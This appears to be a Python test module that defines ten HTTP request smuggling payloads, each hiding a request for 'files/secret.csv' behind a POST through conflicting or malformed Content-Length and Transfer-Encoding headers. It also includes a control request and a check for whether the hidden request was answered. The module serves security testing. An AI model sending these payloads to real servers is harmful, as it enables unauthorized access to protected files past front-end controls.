"""Requests that try to be two: what one server takes for a body, the next may take for a request.

Success is an answer too many, or one that only the hidden request can have caused.
"""

from dataclasses import dataclass

_HIDDEN = "GET {space}files/secret.csv HTTP/1.1\nHost: {workspace}\nX-Marker: hidden\n\n"
_FIRST = "POST {space}api/security/csp-report HTTP/1.1\nHost: {workspace}\nCookie: {own}\n"

TWO_IN_ORDER = "GET /hub/health HTTP/1.1\nHost: {hub}\n\n" * 2
"""The control: two requests in one connection get two answers, so that a hidden one would get its own."""


@dataclass(frozen=True)
class Smuggled:
    """Bytes that hold a hidden request. ``answers``: how many answers are right."""

    name: str
    data: str
    answers: int = 1

    def succeeded(self, heard: str) -> bool:
        """Whether the hidden request was answered."""
        return heard.count("HTTP/1.1 ") > self.answers or "SECRET-record" in heard


SMUGGLED = (
    Smuggled("smuggle-both-lengths", f"{_FIRST}Content-Length: 5\nTransfer-Encoding: chunked\n\n0\n\n{_HIDDEN}"),
    Smuggled("smuggle-two-lengths", f"{_FIRST}Content-Length: 0\nContent-Length: 300\n\n{_HIDDEN}"),
    Smuggled("smuggle-odd-encoding", f"{_FIRST}Content-Length: 0\nTransfer-Encoding: xchunked\n\n{_HIDDEN}"),
    Smuggled("smuggle-space-in-name", f"{_FIRST}Content-Length : 300\n\n{_HIDDEN}"),
    Smuggled("smuggle-folded-header", f"{_FIRST}X: y\n Content-Length: 300\nContent-Length: 0\n\n{_HIDDEN}", 2),
    Smuggled("smuggle-negative-length", f"{_FIRST}Content-Length: -1\n\n{_HIDDEN}"),
    Smuggled("smuggle-hexadecimal-length", f"{_FIRST}Content-Length: 0x12c\n\n{_HIDDEN}"),
    Smuggled("smuggle-chunk-extension", f"{_FIRST}Transfer-Encoding: chunked\n\n0;x={_HIDDEN}"),
    Smuggled("smuggle-bad-chunk", f"{_FIRST}Transfer-Encoding: chunked\n\nzz\n{_HIDDEN}"),
    Smuggled("smuggle-upgrade", f"{_FIRST}Connection: Upgrade\nUpgrade: websocket\nContent-Length: 0\n\n{_HIDDEN}", 2),
)
